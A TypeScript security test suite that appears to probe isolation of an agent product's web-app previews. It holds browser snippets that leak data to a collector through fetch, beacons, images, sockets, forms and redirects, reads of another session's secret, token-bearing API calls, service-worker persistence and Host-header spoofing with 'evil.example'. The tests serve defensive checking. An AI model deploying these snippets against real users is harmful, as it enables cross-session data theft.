import type { RequestListener } from "node:http";
import { PassThrough } from "node:stream";
import { newId } from "@background-agents/shared/ids";
import { createPreviewTunnels } from "../../src/previews/preview-tunnels.ts";
import type { AttackCase, Attempt } from "../attack.ts";
import type { AttackWorld } from "../attack-world.ts";
import { serve, type HostilePages } from "../hostile-page.ts";
import { ask } from "../../src/testing/http-client.ts";
import { serveUnderOneOrigin, setPreviewStage, type Guards, type PreviewStage } from "../preview-stage.ts";
import { startOpen, startWhole } from "./browser-attacks.ts";
import { openPages, showInForeignFrame } from "./page-attacks.ts";

/** The agent's web application is a page by a stranger, in the user's browser: what it tries on whoever looks at it. */

const PAGE: RequestListener = (request, response) => {
  const isWorker = request.url === "/worker.js";
  response
    .setHeader("content-type", isWorker ? "text/javascript" : "text/html")
    .end(isWorker ? "" : "<!doctype html><body>");
};

/** Opens the address in a real Chromium. */
async function withTab<T>(world: AttackWorld, url: string, act: (tab: Tab) => Promise<T>): Promise<T> {
  const { browser } = await openPages(world);
  const tab = await browser.newPage();
  try {
    await tab.goto(url);
    return await act(tab);
  } finally {
    await tab.close();
  }
}

type Tab = Awaited<ReturnType<HostilePages["browser"]["newPage"]>>;

/** Runs `code` in the page at the address; it tells by `true` that it got through. */
const visit = (world: AttackWorld, url: string, code: string): Promise<Attempt> =>
  withTab(world, url, async (tab) => {
    const said = await tab.evaluate<unknown>(
      `(async () => { try { return ${code}; } catch (error) { return error.message; } })()`,
    );
    return { succeeded: said === true, said: String(said) };
  });

async function withStage(guards: Guards, act: (stage: PreviewStage) => Promise<Attempt>): Promise<Attempt> {
  const stage = await setPreviewStage({ app: PAGE, secret: "of another session", guards });
  try {
    return await act(stage);
  } finally {
    await stage.close();
  }
}

const READ_OTHER: [name: string, code: (other: string) => string][] = [
  ["by asking for it", (other) => `(await (await fetch("${other}")).text()).includes("of another session")`],
  [
    "by showing it in a frame",
    (other) => `await new Promise((resolve) => { const frame = document.createElement("iframe"); frame.src = "${other}";
      frame.onload = () => { try { resolve(frame.contentDocument.body.textContent.includes("of another session")); } catch { resolve(false); } };
      document.body.append(frame); setTimeout(() => resolve(false), 3000); })`,
  ],
];

const readCase = ([name, code]: (typeof READ_OTHER)[number]): AttackCase => ({
  ...{ family: "preview", quick: true, name: `read another session's application ${name}` },
  attack: (world) => withStage({}, ({ own, other }) => visit(world, own, code(other))),
  async control(world) {
    const { own, other, close } = await serveUnderOneOrigin(PAGE, "of another session");
    return visit(world, own, code(other)).finally(close);
  },
});

/** Each asks the collector for something, and with it could tell what it knows. */
const CARRY_OUT: [name: string, code: (to: string) => string][] = [
  ["a request", (to) => `void fetch("${to}", { mode: "no-cors" }).catch(() => 0)`],
  ["an image", (to) => `void (new Image().src = "${to}")`],
  ["a beacon", (to) => `navigator.sendBeacon("${to}", "x")`],
  ["a script", (to) => `document.body.append(Object.assign(document.createElement("script"), { src: "${to}" }))`],
  [
    "a style sheet",
    (to) => `document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: "${to}" }))`,
  ],
  ["a frame", (to) => `document.body.append(Object.assign(document.createElement("iframe"), { src: "${to}" }))`],
  [
    "a film",
    (to) => `document.body.append(Object.assign(document.createElement("video"), { src: "${to}", preload: "auto" }))`,
  ],
  ["a font", (to) => `void new FontFace("x", "url(${to})").load().catch(() => 0)`],
  ["a socket", (to) => `void new WebSocket("${to}".replace("http", "ws"))`],
  ["a stream of events", (to) => `void new EventSource("${to}")`],
  [
    "a form",
    (
      to,
    ) => `(() => { const form = Object.assign(document.createElement("form"), { method: "post", action: "${to}", target: "x" });
      document.body.append(Object.assign(document.createElement("iframe"), { name: "x" }), form); form.submit(); })()`,
  ],
];

/** The application by its preview, or as it is. */
type Way = "own" | "direct";

interface Carried {
  /** What the collector was asked for. */
  asked: string[];
  /** From the page's being opened until it had been asked for all. */
  tookMs: number;
}

/** Generous: what nothing stops and has not come by then never will. */
const LIMIT_MS = 30_000;

/**
 * Waits for what the collector is to be asked for. Nothing tells that a request will not come: by the preview it is
 * waited for as long as all took on the direct way, the page's being opened included, and as long again.
 */
async function collect(order: {
  stage: PreviewStage;
  paths: string[];
  direct: Carried | undefined;
  startedAt: number;
}): Promise<Carried> {
  const { stage, paths, direct, startedAt } = order;
  if (direct && !paths.every((path) => direct.asked.includes(path))) throw new Error("its control did not get through");
  await stage.waitForAsked(paths, direct === undefined ? LIMIT_MS : Math.ceil(2 * direct.tookMs));
  return { asked: stage.asked, tookMs: performance.now() - startedAt };
}

/** Tries each way once, the direct one first; `attempt` is given what came of that. */
function tryBoth(attempt: (world: AttackWorld, way: Way, direct?: Carried) => Promise<Carried>) {
  const tried = new Map<Way, Promise<Carried>>();
  const attemptOnce = async (world: AttackWorld, way: Way): Promise<Carried> =>
    attempt(world, way, way === "own" ? await look(world, "direct") : undefined);
  function look(world: AttackWorld, way: Way): Promise<Carried> {
    const carried = tried.get(way) ?? attemptOnce(world, way);
    tried.set(way, carried);
    return carried;
  }
  return look;
}

const PATHS = CARRY_OUT.map((_, at) => `/carried-${at}`);

/** One page tries all of it. */
const carryOut = tryBoth(async (world, way, direct) => {
  const stage = await setPreviewStage({ app: PAGE, secret: "of another session" });
  const startedAt = performance.now();
  try {
    const tries = CARRY_OUT.map(([, code], at) => `try { ${code(`${stage.collector}${PATHS[at]}`)} } catch {}`);
    return await withTab(world, stage[way], async (tab) => {
      await tab.evaluate(`(async () => { ${tries.join(";")}; ${SETTLE} })()`);
      return collect({ stage, paths: PATHS, direct, startedAt });
    });
  } finally {
    await stage.close();
  }
});

/** Whatever was begun has been sent by then, or refused. */
const SETTLE = `for (let frame = 0; frame < 2; frame += 1) await new Promise((resolve) => requestAnimationFrame(resolve));
  await (await fetch("/settled")).text();`;

const carryCase = ([name]: (typeof CARRY_OUT)[number], at: number): AttackCase => {
  const look = (way: Way) => async (world: AttackWorld) => {
    const { asked } = await carryOut(world, way);
    return { succeeded: asked.includes(`/carried-${at}`), said: asked.join(" ") };
  };
  return {
    ...{ family: "preview", quick: true, name: `carry something out by ${name}` },
    attack: look("own"),
    control: look("direct"),
  };
};

/** What no content security policy rules: the tab itself goes elsewhere, and takes along what it knows. */
const LEAD_AWAY: [name: string, path: string, code: string][] = [
  ["leading the tab elsewhere", "", "void setTimeout(() => (location.href = decodeURIComponent(TO)))"],
  ["a redirect of the application's", "away", "0"],
];

const leadCase = ([name, path, code]: (typeof LEAD_AWAY)[number]): AttackCase => {
  const lead = tryBoth(async (world, way, direct) => {
    let to = "";
    const app: RequestListener = (request, response) =>
      void (request.url === "/away" ? response.writeHead(302, { location: to }).end() : PAGE(request, response));
    const stage = await setPreviewStage({ app, secret: "of another session" });
    try {
      to = `${stage.collector}/carried`;
      const startedAt = performance.now();
      return await withTab(world, stage[way] + path, async (tab) => {
        await tab.evaluate(code.replace("TO", JSON.stringify(encodeURIComponent(to))));
        return collect({ stage, paths: ["/carried"], direct, startedAt });
      });
    } finally {
      await stage.close();
    }
  });
  const look = (way: Way) => async (world: AttackWorld) => {
    const { asked } = await lead(world, way);
    return { succeeded: asked.includes("/carried"), said: asked.join(" ") };
  };
  return {
    ...{ family: "preview", quick: true, name: `carry something out by ${name}` },
    attack: look("own"),
    control: look("direct"),
  };
};

const CALL_API: AttackCase = {
  ...{ family: "preview", quick: true, name: "call the API, with its token" },
  attack: async (world) => callApi(world, await startWhole(world), "own"),
  async control(world) {
    const open = await startOpen(["checkOrigin"]);
    const attempt = await callApi(world, open, "direct");
    await open.close();
    return attempt;
  },
};

function callApi(world: AttackWorld, target: { port: number; token: string }, way: Way): Promise<Attempt> {
  const headers = `{ headers: { authorization: "Bearer ${target.token}" } }`;
  const code = `(await fetch("http://localhost:${target.port}/api/sessions", ${headers})).ok`;
  return withStage({}, (stage) => visit(world, stage[way], code));
}

const WORKER: AttackCase = {
  ...{ family: "preview", quick: true, name: "stay in the browser as a service worker" },
  attack: (world) => withStage({}, ({ own }) => visit(world, own, REGISTER)),
  control: (world) => withStage({}, ({ direct }) => visit(world, direct, REGISTER)),
};
const REGISTER = `(await navigator.serviceWorker.register("/worker.js")) instanceof ServiceWorkerRegistration`;

const FRAMED: AttackCase = {
  ...{ family: "preview", quick: true, name: "be shown in a frame of a foreign page" },
  attack: (world) => withStage({}, ({ own }) => frame(world, own)),
  control: (world) => withStage({}, ({ direct }) => frame(world, direct)),
};

async function frame(world: AttackWorld, own: string): Promise<Attempt> {
  return showInForeignFrame((await openPages(world)).browser, own);
}

/** Names under which a page of another site would have a browser ask for the preview. Off: whoever answers any name. */
const HOSTS: [name: string, hostOf: (own: URL) => string][] = [
  ["a foreign name", () => "evil.example"],
  ["the listener's plain name", ({ port }) => `localhost:${port}`],
  ["a guessed address", ({ port }) => `p${"0".repeat(36)}.localhost:${port}`],
  ["the address below a foreign domain", ({ hostname, port }) => `${hostname}.evil.example:${port}`],
  ["the address at another port", ({ hostname }) => `${hostname}:1`],
];

const hostCase = ([name, hostOf]: (typeof HOSTS)[number]): AttackCase => ({
  ...{ family: "preview", quick: true, name: `ask for the application under ${name}` },
  attack: () =>
    withStage({}, async ({ own, port }) => {
      const { status, text } = await ask({ at: { port }, headers: { host: hostOf(new URL(own)) } });
      return { succeeded: status === 200, said: `${status} ${text.slice(0, 100)}` };
    }),
  async control() {
    const naive = await serve(PAGE);
    const { status, text } = await ask({ at: naive, headers: { host: "evil.example" } });
    naive.close();
    return { succeeded: status === 200, said: text };
  },
});

const OVER: AttackCase = {
  ...{ family: "preview", quick: true, name: "ask for the application of a session that was put away" },
  attack: () => withStage({ isOpen: () => false }, look),
  control: () => withStage({ isOpen: () => true }, look),
};

async function look({ own, port }: PreviewStage): Promise<Attempt> {
  const { status, text } = await ask({ at: { port }, headers: { host: new URL(own).host } });
  return { succeeded: status === 200, said: `${status} ${text.slice(0, 100)}` };
}

/** A sandbox that learned the id of another one's tunnel and dials in its place. Off: the one that was asked. */
const TUNNEL: AttackCase = {
  ...{ family: "preview", quick: true, name: "answer in place of another session's application" },
  attack: () => takeTunnel(newId("session")),
  control: () => takeTunnel(undefined),
};

async function takeTunnel(by: ReturnType<typeof newId<"session">> | undefined): Promise<Attempt> {
  const sessionId = newId("session");
  const ids: string[] = [];
  const tunnels = createPreviewTunnels({
    dialLimitMs: 200,
    send(_sessionId, order) {
      if (order.type === "preview.connect") ids.push(order.tunnelId);
      return true;
    },
  });
  const opened = tunnels.open({ sessionId, port: 3000, isUpgrade: false });
  tunnels.accept(by ?? sessionId, { tunnelId: ids[0] ?? "", socket: new PassThrough(), head: Buffer.alloc(0) });
  const answer = await opened;
  return { succeeded: "socket" in answer, said: Object.keys(answer).join() };
}

export const PREVIEW_ATTACKS: AttackCase[] = [
  ...READ_OTHER.map(readCase),
  ...CARRY_OUT.map(carryCase),
  ...LEAD_AWAY.map(leadCase),
  CALL_API,
  WORKER,
  FRAMED,
  ...HOSTS.map(hostCase),
  OVER,
  TUNNEL,
];
